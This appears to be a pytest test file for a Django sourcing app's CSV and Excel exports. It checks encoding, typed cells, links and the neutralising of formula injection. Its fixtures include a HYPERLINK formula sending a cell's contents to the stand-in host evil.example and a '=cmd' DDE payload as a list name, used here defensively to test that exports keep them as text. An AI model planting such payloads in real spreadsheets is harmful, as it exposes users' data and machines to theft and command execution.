"""Exports read back the way a buyer's spreadsheet reads them: CSV with a BOM and Chinese intact, formulas
neutralised; Excel with typed numbers, links to 1688, a frozen header, and notes that stay text."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from sourcing.lists import services as services
from sourcing.lists.models import ExchangeRate

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def hostile_note(alice, kitchen):
    item = kitchen.items.order_by("position").first()
    services.item_update(actor=alice, item=item, version=item.version, changes={"note": HOSTILE})
    return item


def csv_rows(response):
    raw = response.content
    assert raw.startswith("\ufeff".encode()), "spreadsheets need the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_reads_back_with_chinese_numbers_and_no_formula(client, alice, kitchen, hostile_note, usd):
    client.force_login(alice)
    response = client.get(f"/lists/{kitchen.pk}/export.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"] and ".csv" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert [r["Title"] for r in rows] == ["不锈钢保温杯 500ml", "玻璃水杯 带盖", "陶瓷马克杯"]
    flask, glass, mug = rows
    # the flask at 500: the 100+ tier, ¥12.50 each, ¥6,250.00 in all; $ at yesterday's rate (0.14)
    assert (flask["Priced quantity"], flask["Unit price at quantity (CNY)"], flask["Total at quantity (CNY)"]) == (
        "500",
        "12.50",
        "6250.00",
    )
    assert flask["Tiers (CNY)"] == "≥2: ¥14.50; ≥100: ¥12.50; ≥1000: ¥11.00"
    assert flask["Supplier"] == "义乌示例日用品厂" and flask["Supplier location"] == "浙江省 金华市"
    assert flask["1688 link"] == "https://detail.1688.com/offer/800001.html"
    assert flask["Image URL"] == "https://img.example/800001.png"
    assert (flask["Unit price (USD)"], flask["Total (USD)"], flask["Rate (USD per ¥1)"]) == (
        "1.75",
        "875.00",
        "0.14000000",
    )
    assert flask["Rate date"] == (timezone.localdate() - timedelta(days=1)).isoformat()
    # the note that would be a formula is text with a leading quote
    assert flask["Note"] == "'" + HOSTILE
    # the glass below its minimum order: priced at 50, and the row says why
    assert (glass["Target quantity"], glass["Priced quantity"], glass["Unit price at quantity (CNY)"]) == (
        "20",
        "50",
        "9.80",
    )
    assert glass["Price note"] == "The minimum order is 50; priced at 50."
    # the mug's chosen SKU: its own price (1688 prices it by SKU) and stock
    assert (mug["SKU"], mug["Unit price at quantity (CNY)"], mug["Total at quantity (CNY)"]) == (
        "黑色",
        "7.00",
        "700.00",
    )
    assert mug["Stock"] == "150" and mug["Status"] == "Idea" and mug["Added by"] == "alice"


def test_xlsx_has_typed_cells_links_frozen_header_and_text_notes(client, bob, kitchen, hostile_note, usd):
    client.force_login(bob)
    response = client.get(f"/lists/{kitchen.pk}/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["Spring kitchen range"]
    header = [c.value for c in sheet[1]]
    col = {name: i for i, name in enumerate(header)}
    assert sheet.freeze_panes == "C2"
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 3
    flask = rows[0]
    assert (
        flask[col["Title"]].value == "不锈钢保温杯 500ml"
        and flask[col["English title"]].value == "Steel vacuum flask 500 ml"
    )
    # numbers are numbers: they sum in the spreadsheet
    assert flask[col["Priced quantity"]].value == 500 and flask[col["Priced quantity"]].data_type == "n"
    assert flask[col["Unit price at quantity (CNY)"]].value == 12.5
    assert flask[col["Total at quantity (CNY)"]].value == 6250
    assert flask[col["Total at quantity (CNY)"]].number_format == "#,##0.00"
    assert flask[col["Target price (CNY)"]].value == 12
    assert flask[col["Total (USD)"]].value == 875 and flask[col["Rate (USD per ¥1)"]].value == 0.14
    assert flask[col["Fetched at"]].is_date
    # the offer id stays exact (too long for a spreadsheet number) and the link opens 1688
    assert flask[col["Offer ID"]].value == "800001"
    link = flask[col["1688 link"]]
    assert link.hyperlink.target == "https://detail.1688.com/offer/800001.html"
    # a note starting with "=" is a text cell, never a formula
    note = flask[col["Note"]]
    assert note.value == HOSTILE and note.data_type == "s"
    assert rows[1][col["Price note"]].value == "The minimum order is 50; priced at 50."
    about = {r[0].value: r[1].value for r in book["About"].iter_rows()}
    assert about["List"] == "Spring kitchen range" and about["Team"] == "Acme Sourcing" and about["Items"] == 3
    assert about["Exported by"] == "bob"
    assert about["Exchange rate"] == f"¥1 = 0.14 USD (rate of {(timezone.localdate() - timedelta(days=1)).isoformat()})"


def test_without_a_rate_the_exports_say_cny_only(client, alice, kitchen):
    kitchen.team.display_currency = "GBP"
    kitchen.team.save()
    client.force_login(alice)
    rows = csv_rows(client.get(f"/lists/{kitchen.pk}/export.csv"))
    assert rows[0]["Unit price (GBP)"] == "" and rows[0]["Rate date"] == "no GBP rate kept by the admins: CNY only"
    book = load_workbook(io.BytesIO(client.get(f"/lists/{kitchen.pk}/export.xlsx").content))
    about = {r[0].value: r[1].value for r in book["About"].iter_rows()}
    assert about["Exchange rate"] == "No GBP rate is kept yet: prices in CNY only."
    # a team in CNY gets no second-currency columns at all
    kitchen.team.display_currency = "CNY"
    kitchen.team.save()
    rows = csv_rows(client.get(f"/lists/{kitchen.pk}/export.csv"))
    assert not any("USD" in k or "GBP" in k or k == "Rate date" for k in rows[0])


def test_hostile_names_and_control_characters_still_export(client, alice, kitchen):
    services.list_update(actor=alice, product_list=kitchen, name='=cmd|" /C calc"!A0 [x]:*?/\\ 清单', description="")
    item = kitchen.items.first()
    services.item_update(actor=alice, item=item, version=item.version, changes={"note": "bell\x07 tab\there\x1b end"})
    ExchangeRate.objects.create(currency="EUR", rate=Decimal("0.127"), date=timezone.localdate())
    client.force_login(alice)
    response = client.get(f"/lists/{kitchen.pk}/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.worksheets[0]
    assert sheet.title == '=cmd|" C calc"!A0 x 清单'  # what a sheet name can't hold becomes a space
    column = [c.value for c in sheet[1]].index("Note")
    notes = [row[column].value for row in sheet.iter_rows(min_row=2)]
    assert "bell tab\there end" in notes
    assert client.get(f"/lists/{kitchen.pk}/export.csv").status_code == 200
